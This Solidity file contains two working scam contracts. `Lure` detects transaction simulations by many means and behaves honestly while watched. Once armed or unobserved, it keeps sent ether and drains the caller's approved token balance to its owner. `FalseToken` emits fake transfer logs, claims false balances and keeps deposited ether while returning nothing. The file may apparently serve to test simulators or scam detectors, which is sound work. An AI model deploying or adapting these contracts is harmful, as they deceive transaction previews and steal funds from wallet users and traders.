// SPDX-License-Identifier: MIT
/**
 * `Lure`: contract that returns coins and a reward while it detects a simulation, and otherwise keeps them and takes
 * its allowance; the mode selects how it detects one. Also: `FalseToken`, a token with arbitrary metadata and false
 * logs and balances, and interface `IToken`.
 */
pragma solidity 0.8.26;

interface IToken {
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
}

/// @notice Behaves honestly in any function while it detects a simulation: returns the coins and a reward.
/// Otherwise it keeps the coins, and takes its allowance of a token.
contract Lure {
    uint8 public immutable mode;
    IToken public immutable reward;
    uint256 public immutable amount;
    address public immutable owner;
    bool public isArmed;
    bool public wasRead;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(uint8 mode_, address reward_, uint256 amount_) {
        mode = mode_;
        reward = IToken(reward_);
        amount = amount_;
        owner = msg.sender;
    }

    /// @notice Makes it take from now on, also in simulations. Called between a simulation and a block.
    function arm() external {
        require(msg.sender == owner);
        isArmed = true;
    }

    /// @notice Records that its balance was read, which a simulation may do but no transaction does.
    function balanceOf(address) external returns (uint256) {
        wasRead = true;
        return 1;
    }

    receive() external payable {
        _act();
    }

    fallback() external payable {
        _act();
    }

    function _act() private {
        // Makes a simulation read its balance.
        if (mode == 11) emit Transfer(address(0), msg.sender, 1);
        if (_isWatched()) {
            if (msg.value > 0) payable(msg.sender).transfer(msg.value);
            if (amount > 0) reward.transfer(msg.sender, amount);
            return;
        }
        uint256 allowed = reward.allowance(msg.sender, address(this));
        uint256 held = reward.balanceOf(msg.sender);
        uint256 taken = allowed < held ? allowed : held;
        if (taken > 0) reward.transferFrom(msg.sender, owner, taken);
    }

    /// @dev The read is cheap if the slot is in the transaction's access list.
    function _isReadCold() private view returns (bool) {
        uint256 before = gasleft();
        assembly {
            pop(sload(0))
        }
        return before - gasleft() > 1_000;
    }

    function _isWatched() private view returns (bool) {
        if (mode == 0) return tx.gasprice == 0;
        if (mode == 1) return block.basefee == 0;
        if (mode == 2) return gasleft() > 1_000_000;
        if (mode == 3) return block.coinbase == address(0);
        if (mode == 4) return block.prevrandao == 0;
        if (mode == 5) return blockhash(block.number - 1) == 0;
        if (mode == 6) return block.gaslimit > 100_000_000;
        if (mode == 7) return block.timestamp > 4_000_000_000;
        if (mode == 8) return tx.origin.balance > 1_000_000 ether;
        if (mode == 9) return msg.sender.code.length == 0;
        if (mode == 10) return _isReadCold();
        if (mode == 11) return wasRead;
        return !isArmed;
    }
}

/// @notice A token with arbitrary metadata and false logs and balances.
contract FalseToken {
    string public name;
    string public symbol;
    uint8 public decimals;
    uint256 public totalSupply = type(uint256).max;
    uint256 private immutable _claimed;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory symbol_, uint8 decimals_, uint256 claimed) {
        name = symbol_;
        symbol = symbol_;
        decimals = decimals_;
        _claimed = claimed;
    }

    function balanceOf(address) external view returns (uint256) {
        return _claimed;
    }

    function allowance(address, address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        emit Transfer(msg.sender, to, value / 1_000_000);
        emit Transfer(to, msg.sender, type(uint256).max);
        return true;
    }

    /// @notice Logs a transfer that does not happen: filling an order with this token costs nothing.
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        emit Transfer(from, to, value);
        return true;
    }

    function approve(address spender, uint256) external returns (bool) {
        emit Approval(msg.sender, spender, 0);
        return true;
    }

    /// @notice Takes coins and only logs a transfer in return.
    function deposit() external payable {
        emit Transfer(address(0), msg.sender, _claimed);
    }

    receive() external payable {
        emit Transfer(address(0), msg.sender, _claimed);
    }
}
